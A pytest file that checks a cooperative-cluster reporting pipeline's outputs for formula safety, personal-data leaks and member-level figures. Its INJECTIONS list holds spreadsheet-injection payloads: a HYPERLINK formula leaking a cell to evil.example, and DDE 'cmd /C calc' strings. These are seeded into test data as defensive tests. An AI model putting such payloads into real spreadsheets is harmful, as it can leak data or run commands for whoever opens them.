"""Output safety: formula-safe workbooks, no personal data, no member-level figures.

On the session's example run (``example_run`` in tests/conftest.py) and on a run whose raw free
text was seeded with formula-injection strings:

- no workbook under reports/ holds a formula cell; injected text stays text;
- no name, phone or e-mail of the member register appears anywhere under reports/ outside
  office/ (and no e-mail or Georgian phone number at all);
- donor, member and vendor views never show member ids (GPC-###) nor a member's own
  quantities or prices.
"""

from __future__ import annotations

import functools
import re
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest

REPO_ROOT = Path(__file__).resolve().parents[2]
RAW = REPO_ROOT / "data" / "raw"
MEMBER_ID = re.compile(r"GPC-\d{3}")
EMAIL = re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+\.[A-Za-z]{2,}")
GEORGIAN_PHONE = re.compile(r"(?<![\d.])(?:\+995|00995)[\s\d()-]{8,}")
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
#: Folders of reports/ only the cluster office sees (member-level by design) or staff fix data in.
STAFF_ONLY = ("office", "validation", "manifests")
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def example_paths(request: pytest.FixtureRequest):
    """The paths of the example run; a run that fails or writes no report fails these tests."""
    paths, _summary = request.getfixturevalue("example_run")
    assert any(paths.reports.rglob("*")), "the example run wrote no reports"
    return paths


@pytest.fixture(scope="module")
def example_reports(example_paths) -> Path:
    return example_paths.reports


# --------------------------------------------------------------------------------------------------
# text of every output file


def _xlsx_cells(path: Path) -> list[tuple[str, str, str, object]]:
    """Return (sheet, coordinate, data_type, value) of every non-empty cell (parsed once)."""
    stat = path.stat()
    return _xlsx_cells_cached(str(path), stat.st_mtime_ns, stat.st_size)


@functools.lru_cache(maxsize=64)
def _xlsx_cells_cached(path: str, _mtime: int, _size: int) -> list[tuple[str, str, str, object]]:
    import openpyxl

    workbook = openpyxl.load_workbook(path, data_only=False)
    return [
        (sheet.title, cell.coordinate, cell.data_type, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _docx_text(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return " ".join(
            re.sub(r"<[^>]+>", " ", archive.read(n).decode("utf-8", "replace"))
            for n in archive.namelist()
            if n.startswith("word/") and n.endswith(".xml")
        )


def _pptx_text(path: Path) -> str:
    """Slides, notes and charts of a deck, and the cells of every chart's embedded workbook."""
    import io

    import openpyxl

    parts = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("ppt/") and name.endswith(".xml"):
                raw = archive.read(name).decode("utf-8", "replace")
                parts.append(re.sub(r"<[^>]+>", " ", raw))
            elif name.startswith("ppt/embeddings/") and name.endswith(".xlsx"):
                book = openpyxl.load_workbook(io.BytesIO(archive.read(name)))
                parts.extend(
                    str(c.value)
                    for sheet in book.worksheets
                    for row in sheet.iter_rows()
                    for c in row
                    if c.value is not None
                )
    return " ".join(parts)


def _html_text(raw: str) -> str:
    """Visible text and data of an HTML page, without the bundled plotly.js library code."""
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", raw, flags=re.S)
    data = [s for s in scripts if len(s) < 2_000_000 and "Plotly.newPlot" in s]
    body = re.sub(r"<script[^>]*>.*?</script>", " ", raw, flags=re.S)
    return body + " ".join(data)


def output_text(path: Path) -> str | None:
    """Return the searchable text of an output file (None for images with no text layer)."""
    suffix = path.suffix.lower()
    if suffix == ".xlsx":
        return "\n".join(str(v) for *_, v in _xlsx_cells(path))
    if suffix == ".docx":
        return _docx_text(path)
    if suffix == ".pptx":
        return _pptx_text(path)
    if suffix in (".html", ".htm"):
        return _html_text(path.read_text(encoding="utf-8", errors="replace"))
    if suffix in (".svg", ".csv", ".md", ".txt", ".json"):
        return path.read_text(encoding="utf-8", errors="replace")
    if suffix == ".pdf":
        return path.read_bytes().decode(
            "latin-1"
        )  # uncompressed text only; svg/html carry the rest
    return None


def _published(reports: Path) -> list[Path]:
    return [
        p
        for p in sorted(reports.rglob("*"))
        if p.is_file() and p.relative_to(reports).parts[0] not in STAFF_ONLY
    ]


def _register() -> pd.DataFrame:
    path = RAW / "survey" / "register.csv"
    assert path.is_file(), f"the bundled example register is missing: {path.relative_to(REPO_ROOT)}"
    from cluster_analysis.readers import read_table

    return read_table(path, as_text=True)


# --------------------------------------------------------------------------------------------------
# formula safety


def _formula_cells(reports: Path) -> list[str]:
    found = []
    for path in sorted(reports.rglob("*.xlsx")):
        for sheet, coordinate, data_type, value in _xlsx_cells(path):
            if data_type == "f":
                found.append(f"{path.relative_to(reports)}!{sheet}!{coordinate}: {value!r}")
    return found


def test_example_workbooks_have_no_formula_cells(example_reports: Path) -> None:
    books = list(example_reports.rglob("*.xlsx"))
    assert books, "the example run wrote no workbook"
    assert _formula_cells(example_reports) == []


@pytest.fixture(scope="module")
def injected_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    """A run whose raw free text (demand specifications and items, register names, survey
    free-text answers) starts with formula-injection strings; returns (reports, injected)."""
    from cluster_analysis.config import Settings, get_paths
    from cluster_analysis.pipeline import RunOptions, run_pipeline

    assert (RAW / "pool" / "demand_submissions.csv").is_file(), "the example pool data is missing"
    root = tmp_path_factory.mktemp("injected")
    raw = root / "raw"
    shutil.copytree(RAW, raw)
    injected: list[str] = []
    demand = raw / "pool" / "demand_submissions.csv"
    frame = pd.read_csv(demand, dtype=str, keep_default_na=False)
    frame.loc[0, "specification"] = INJECTIONS[0]
    frame.loc[1, "specification"] = INJECTIONS[1]
    frame.loc[2, "unit"] = INJECTIONS[2]  # a rejected row: its value goes to rejects.xlsx
    frame.loc[3, "item_en"] = INJECTIONS[3]
    frame.to_csv(demand, index=False)
    injected += list(INJECTIONS)
    register = raw / "survey" / "register.csv"
    names = pd.read_csv(register, dtype=str, keep_default_na=False)
    name_column = next((c for c in ("name", "name_en", "name_ka") if c in names.columns), None)
    assert name_column, f"the example register has no name column: {list(names.columns)}"
    names.loc[0, name_column] = INJECTIONS[0]
    names.to_csv(register, index=False)
    paths = get_paths(root, raw=raw)
    # a run that raises fails every test using this fixture: no skip in place of a failure
    run_pipeline(
        paths,
        Settings(),
        RunOptions(
            domains=("survey", "pool"), langs=("en",), formats=("html",), static_export=False
        ),
    )
    return paths.reports, injected


def test_injected_formulas_stay_text(injected_run: tuple[Path, list[str]]) -> None:
    reports, injected = injected_run
    assert _formula_cells(reports) == []
    shown = []
    for path in sorted(reports.rglob("*.xlsx")):
        for _sheet, _coordinate, data_type, value in _xlsx_cells(path):
            # codes are upper-cased on the way in ("@sum" -> "@SUM"): compare case-blind
            if isinstance(value, str) and any(i.upper() in value.upper() for i in injected):
                assert data_type == "s", (path.name, value)
                shown.append(value)
    # The rejected row's injected unit must reach the staff's rejects workbook, as text.
    assert any(INJECTIONS[2].upper() in v.upper() for v in shown), (
        "the injected value is missing from rejects.xlsx"
    )


# --------------------------------------------------------------------------------------------------
# personal data and member-level figures


def _personal_values(register: pd.DataFrame) -> list[str]:
    from cluster_analysis.survey.schemas import PERSONAL_COLUMNS

    values = []
    for column in [c for c in register.columns if c in PERSONAL_COLUMNS]:
        for value in register[column].dropna().astype(str):
            value = value.strip()
            if len(value) >= 5:  # shorter strings collide with ordinary words
                values.append(value)
    return sorted(set(values))


def test_no_personal_data_outside_office(example_reports: Path) -> None:
    personal = _personal_values(_register())
    assert personal, "the register has no name, phone or e-mail column to look for"
    leaks = []
    for path in _published(example_reports):
        text = output_text(path)
        if text is None:
            continue
        for value in personal:
            if value in text:
                leaks.append(f"{path.relative_to(example_reports)}: {value!r}")
        for pattern in (EMAIL, GEORGIAN_PHONE):
            for match in pattern.findall(text):
                leaks.append(f"{path.relative_to(example_reports)}: {match!r}")
    assert not leaks, f"{len(leaks)} leaks:\n" + "\n".join(leaks[:20])


def test_no_member_ids_in_donor_member_vendor_views(example_reports: Path) -> None:
    leaks = []
    for path in _published(example_reports):
        text = output_text(path)
        if text is not None:
            leaks += [
                f"{path.relative_to(example_reports)}: {m}" for m in set(MEMBER_ID.findall(text))
            ]
    assert not leaks, "\n".join(sorted(leaks)[:20])


def _pool_demand(processed: Path) -> pd.DataFrame:
    path = processed / "pool" / "pool_demand.parquet"
    assert path.is_file(), "the example run wrote no processed pool demand (pool_demand.parquet)"
    return pd.read_parquet(path)


#: Column labels of the report workbooks (first, English line of a bilingual header) -> column.
HEADER_ALIASES = {
    "quarter": "period",
    "firm_quantity": "quantity_firm",
    "conditional_quantity": "quantity_conditional",
    "indicative_quantity": "quantity_indicative",
}


def _column_name(header: object, position: int) -> str:
    lines = str(header).strip().splitlines() if header is not None else []
    if not lines:
        return f"_{position}"
    name = lines[0].strip().lower().replace(" ", "_")
    return HEADER_ALIASES.get(name, name)


def _sheet_tables(path: Path):
    """Yield (sheet, frame) for every sheet of a report workbook holding a table with
    ``category`` and ``period`` (or "Quarter") columns; title rows above and source rows below
    are skipped, bilingual header labels are mapped to column names."""
    import openpyxl

    workbook = openpyxl.load_workbook(path, data_only=True)
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        header_at = next(
            (
                i
                for i, r in enumerate(rows)
                if {"category", "period"} <= {_column_name(h, j) for j, h in enumerate(r)}
            ),
            None,
        )
        if header_at is None:
            continue
        header = [_column_name(h, j) for j, h in enumerate(rows[header_at])]
        body = []
        for r in rows[header_at + 1 :]:
            if r[0] is None or str(r[0]).startswith(("Source", "წყარო", "–", "Note")):
                break
            body.append(r)
        yield sheet.title, pd.DataFrame(body, columns=header)


def _pool_tables(reports: Path):
    """Yield (file, sheet, frame) of every published pool table; fail if none is found, so a
    change of layout cannot make the checks pass on nothing."""
    found = 0
    for path in _published(reports):
        if path.suffix.lower() != ".xlsx":
            continue
        for sheet, table in _sheet_tables(path):
            found += 1
            yield path.relative_to(reports), sheet, table
    assert found, "no published table with category and period columns: update _sheet_tables"


def _significant_digits(value: float) -> int:
    return len(re.sub(r"[^0-9]", "", f"{value:.10g}").strip("0"))


def test_no_single_member_figure_in_shared_pool_views(example_paths) -> None:
    """No published pool number equals one member's own quantity, price or spend in the same
    category and quarter (numbers with at least 3 significant digits, so round numbers do not
    collide by chance)."""
    demand = _pool_demand(example_paths.processed)
    columns = [
        c
        for c in ("quantity", "quantity_base", "last_unit_price", "last_price_gel", "spend_gel")
        if c in demand.columns
    ]
    unit = "base_unit" if "base_unit" in demand.columns else "unit"
    own: dict[tuple[str, str, str], dict[float, str]] = {}
    for row in demand.itertuples(index=False):
        key = (str(row.category), str(getattr(row, unit)), str(row.period))
        for column in columns:
            value = getattr(row, column)
            if pd.notna(value) and _significant_digits(float(value)) >= 3:
                own.setdefault(key, {})[float(value)] = f"{row.member_id}'s {column}"
    leaks = []
    for name, sheet, table in _pool_tables(example_paths.reports):
        for record in table.to_dict("records"):
            cell_unit = record.get("base_unit", record.get("unit"))
            values = own.get((str(record["category"]), str(cell_unit), str(record["period"])), {})
            for column, value in record.items():
                if isinstance(value, int | float) and float(value) in values:
                    leaks.append(
                        f"{name}!{sheet} "
                        f"{record['category']} {record['period']} {column} = {value}: "
                        f"{values[float(value)]}"
                    )
    assert not leaks, f"{len(leaks)} leaks:\n" + "\n".join(leaks[:20])


COMMITMENT_COLUMNS = {
    "quantity_firm": "firm",
    "quantity_conditional": "conditional",
    "quantity_indicative": "indicative",
}


def test_commitment_breakdown_has_enough_members(example_paths) -> None:
    """A published firm / conditional / indicative part of a pooled volume is a cell of its own:
    it needs at least 5 members (methods.md section 6), or it shows one member's plans."""
    demand = _pool_demand(example_paths.processed)
    assert "commitment" in demand.columns, f"pool_demand has no commitment column: {demand.columns}"
    unit = "base_unit" if "base_unit" in demand.columns else "unit"
    members = demand.groupby(["category", unit, "period", "commitment"])["member_id"].nunique()
    leaks = []
    for name, sheet, table in _pool_tables(example_paths.reports):
        for record in table.to_dict("records"):
            for column, commitment in COMMITMENT_COLUMNS.items():
                value = record.get(column)
                if not isinstance(value, int | float) or value == 0:
                    continue
                key = (
                    record["category"],
                    record.get("base_unit", record.get("unit")),
                    record["period"],
                    commitment,
                )
                n = int(members.get(key, 0))
                if n < 5:
                    leaks.append(
                        f"{name}!{sheet} {key[0]} {key[2]} {column} = {value} from {n} member(s)"
                    )
    assert not leaks, f"{len(leaks)} leaks:\n" + "\n".join(leaks[:20])
